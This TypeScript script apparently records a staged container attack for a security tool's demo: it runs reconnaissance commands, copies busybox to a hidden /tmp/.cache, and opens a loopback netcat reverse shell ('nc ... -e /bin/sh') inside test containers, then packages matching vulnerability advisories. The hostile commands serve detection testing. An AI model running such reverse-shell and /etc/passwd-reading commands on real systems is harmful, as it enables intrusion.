/**
 * Records what `bulwark demo` replays: a real attack in real containers, as the sensor told of it. Run as root with
 * containerd, runc, busybox, zip and unzip; `../shared/feeds` (or FEEDS_DIR) gives the few advisories that the demo's images need.
 * Names of containers and images are those of a made-up shop; what the processes did is as it was.
 */
import { execFileSync } from "node:child_process";
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { openContainers } from "@bulwark/containers";
import {
  imageKeyOf,
  packagesOnly,
  plainPackage,
  type Container,
  type ImageReport,
  type InstalledPackage,
} from "@bulwark/model";
import { startSensor, type SensorRecord } from "@bulwark/sensor";
import { feedsDir, startContainerd } from "@bulwark/testkit";

const target = join(import.meta.dirname, "../apps/cli/src/demo");

type Image = {
  name: string;
  os: ImageReport["inventory"]["os"];
  packages: [name: string, version: string, source?: string][];
};
const debian = { id: "debian", version: "11", name: "Debian GNU/Linux 11 (bullseye)" };
const alpine = { id: "alpine", version: "3.10", name: "Alpine Linux v3.10" };
const base: Image["packages"] = [
  ["base-files", "11.1+deb11u5"],
  ["bash", "5.1-2+deb11u1"],
  ["coreutils", "8.32-4+b1"],
  ["dpkg", "1.20.9"],
  ["gzip", "1.10-4"],
  ["libc6", "2.31-13+deb11u3", "glibc"],
  ["libgcrypt20", "1.8.7-6"],
  ["libssl1.1", "1.1.1k-1", "openssl"],
  ["openssl", "1.1.1k-1"],
  ["xz-utils", "5.2.5-2"],
  ["zlib1g", "1:1.2.11.dfsg-2", "zlib"],
];
const images: Record<string, Image> = {
  storefront: {
    name: "registry.example/shop/storefront:2.4.1",
    os: debian,
    packages: [
      ...base,
      ["curl", "7.74.0-1.3"],
      ["libcurl4", "7.74.0-1.3", "curl"],
      ["nginx", "1.18.0-6.1"],
      ["libxml2", "2.9.10+dfsg-6.7"],
    ],
  },
  checkout: {
    name: "registry.example/shop/checkout:5.0.3",
    os: debian,
    packages: [
      ...base,
      ["git", "1:2.30.2-1"],
      ["python3.9", "3.9.2-1"],
      ["libexpat1", "2.2.10-2", "expat"],
      ["policykit-1", "0.105-31"],
      ["sudo", "1.9.5p2-3"],
    ],
  },
  "orders-db": {
    name: "docker.io/library/postgres:13",
    os: debian,
    packages: [...base, ["postgresql-13", "13.4-0+deb11u1"], ["libldap-2.4-2", "2.4.57+dfsg-3", "openldap"]],
  },
  cache: {
    name: "docker.io/library/redis:5-alpine",
    os: alpine,
    packages: [
      ["busybox", "1.30.1-r1"],
      ["musl", "1.1.22-r2"],
      ["redis", "5.0.4-r0"],
    ],
  },
};

async function record(): Promise<{ containers: Container[]; records: SensorRecord[] }> {
  await using containerd = await startContainerd();
  const running = Object.keys(images).map((id) => containerd.run({ id, args: ["sleep", "600"] }));
  await using registry = await openContainers({
    node: "demo",
    paths: { containerd: [containerd.socket], docker: [], "cri-o": [], podman: [], runc: [], crun: [] },
  });
  const records: SensorRecord[] = [];
  await using _sensor = await startSensor({ onRecords: (batch) => records.push(...batch) });
  const checkout = running.find(({ id }) => id === "checkout");
  const storefront = running.find(({ id }) => id === "storefront");
  const pause = async (ms: number): Promise<void> => void (await new Promise((resolve) => setTimeout(resolve, ms)));

  // Ordinary work.
  storefront?.exec("sh", "-c", "ls /etc >/dev/null; cat /etc/os-release >/dev/null");
  await pause(1500);
  // A request handler that passes its input to a shell: somebody looks around, brings a tool along, and calls home.
  checkout?.exec("sh", "-c", "id; cat /etc/passwd; ps; true");
  await pause(2000);
  checkout?.exec("sh", "-c", "cp /bin/busybox /tmp/.cache; chmod +x /tmp/.cache; /tmp/.cache seq 3; true");
  await pause(2500);
  checkout?.exec(
    "sh",
    "-c",
    "(echo 'id; ls /; cat /etc/os-release; sleep 1; exit'; sleep 3) | nc -lp 4444 >/dev/null & sleep 1; nc 127.0.0.1 4444 -e /bin/sh; true",
  );
  await pause(1500);

  const mine = new Set(registry.containers().map(({ id }) => id));
  const ids = new Set(
    records.flatMap((item) =>
      "cgroups" in item && item.cgroups.some((path) => [...mine].some((id) => path.includes(id))) ? [item.pid] : [],
    ),
  );
  const kept = records.filter((item) => "pid" in item && ids.has(item.pid));
  return { containers: registry.containers().map(disguise), records: kept };
}

function disguise(container: Container): Container {
  const image = images[container.id];
  if (!image) throw new Error(`no image for ${container.id}`);
  const digest = `sha256:${Buffer.from(image.name.padEnd(32, "-")).toString("hex").slice(0, 64)}`;
  return {
    ...container,
    runtimeNamespace: "k8s.io",
    image: { name: image.name, digest },
    labels: { app: container.id, team: container.id === "orders-db" || container.id === "cache" ? "data" : "shop" },
    pod: { name: `${container.id}-7d9f5b6c4-x2x9k`, namespace: "shop", uid: container.id, container: container.id },
    privileged: container.id === "cache",
    mounts: container.mounts.map((mount) => ({
      ...mount,
      source: mount.source.startsWith("/tmp") ? "overlay" : mount.source,
    })),
    rootfs: null,
  };
}

function report(container: Container): ImageReport {
  const { os, packages } = images[container.id] as Image;
  return {
    key: imageKeyOf(container),
    name: container.image.name,
    digest: container.image.digest,
    source: "image",
    scannedAt: 0,
    durationMs: 800,
    inventory: {
      os,
      extractors: [{ extractor: os?.id === "alpine" ? "apk" : "dpkg", state: "done", errors: [] }],
      packages: packages.map(([name, version, source = name]): InstalledPackage => ({
        type: os?.id === "alpine" ? "apk" : "deb",
        name,
        version,
        architecture: "amd64",
        source: { name: source, version: version.replace(/\+b\d+$/, "") },
        purl: `pkg:${os?.id === "alpine" ? "apk/alpine" : "deb/debian"}/${name}@${encodeURIComponent(version)}`,
        licences: [],
        location: os?.id === "alpine" ? "/lib/apk/db/installed" : "/var/lib/dpkg/status",
        layer: null,
        ...plainPackage,
      })),
    },
    ...packagesOnly,
  };
}

/** The advisories of the packages above, and no more. */
function writeFeeds(): void {
  const sources = new Set(
    Object.values(images).flatMap(({ packages }) => packages.map(([name, , source = name]) => source)),
  );
  const folder = mkdtempSync(join(tmpdir(), "bulwark-feeds-"));
  execFileSync("unzip", ["-q", join(feedsDir(), "osv/Debian/all.zip"), "-d", folder]);
  const kept = execFileSync("sh", ["-c", "grep -l '\"Debian:11\"' -- *.json"], { cwd: folder, encoding: "utf8" })
    .trim()
    .split("\n");
  const records = kept
    .map(
      (name) =>
        JSON.parse(readFileSync(join(folder, name), "utf8")) as {
          id: string;
          affected: { package: { ecosystem: string; name: string } }[];
        },
    )
    .map((item) => ({
      ...item,
      affected: item.affected.filter(({ package: one }) => one.ecosystem === "Debian:11" && sources.has(one.name)),
    }))
    .filter(({ affected }) => affected.length > 0);
  const secdb = JSON.parse(readFileSync(join(feedsDir(), "alpine/v3.10/main.json"), "utf8")) as {
    packages: { pkg: { name: string } }[];
  };
  const text = JSON.stringify(records);
  const kev = JSON.parse(readFileSync(join(feedsDir(), "cisa/known_exploited_vulnerabilities.json"), "utf8")) as {
    vulnerabilities: { cveID: string; dateAdded: string }[];
  };
  const alpine310 = { distroversion: "v3.10", packages: secdb.packages.filter(({ pkg }) => sources.has(pkg.name)) };
  const exploited = kev.vulnerabilities
    .filter(({ cveID }) => text.includes(cveID))
    .map(({ cveID, dateAdded }) => ({ cveID, dateAdded }));

  const mirror = join(target, "feeds");
  rmSync(mirror, { recursive: true, force: true });
  for (const name of ["osv/Debian", "alpine/v3.10", "cisa"]) mkdirSync(join(mirror, name), { recursive: true });
  zip(records, join(mirror, "osv/Debian/all.zip"));
  // Debian's advisories carry no score; those of others for the same CVE do.
  execFileSync("unzip", ["-q", "-o", join(feedsDir(), "osv/Bitnami/all.zip"), "-d", folder]);
  const cves = new Set(text.match(/CVE-\d+-\d+/g));
  const rated = execFileSync("sh", ["-c", "ls | grep ^BIT-"], { cwd: folder, encoding: "utf8" })
    .trim()
    .split("\n")
    .map((name) => JSON.parse(readFileSync(join(folder, name), "utf8")) as { id: string; aliases?: string[] })
    .filter(({ aliases }) => aliases?.some((alias) => cves.has(alias)));
  mkdirSync(join(mirror, "osv/Bitnami"), { recursive: true });
  zip(rated, join(mirror, "osv/Bitnami/all.zip"));
  writeFileSync(join(mirror, "alpine/v3.10/main.json"), JSON.stringify(alpine310));
  writeFileSync(
    join(mirror, "cisa/known_exploited_vulnerabilities.json"),
    JSON.stringify({ vulnerabilities: exploited }),
  );
  rmSync(folder, { recursive: true });
}

function zip(records: { id: string }[], into: string): void {
  const chosen = mkdtempSync(join(tmpdir(), "bulwark-chosen-"));
  for (const item of records) writeFileSync(join(chosen, `${item.id}.json`), JSON.stringify(item));
  execFileSync("sh", ["-c", 'exec zip -q -X "$0" *.json', into], { cwd: chosen });
  rmSync(chosen, { recursive: true });
}

mkdirSync(target, { recursive: true });
const { containers, records } = await record();
const text = JSON.stringify({ containers, reports: containers.map(report), records }, (_key, value: unknown) =>
  typeof value === "bigint" ? String(value) : value,
);
writeFileSync(join(target, "attack.json"), text);
writeFeeds();
console.log(`${containers.length} containers, ${records.length} records, ${text.length} bytes`);
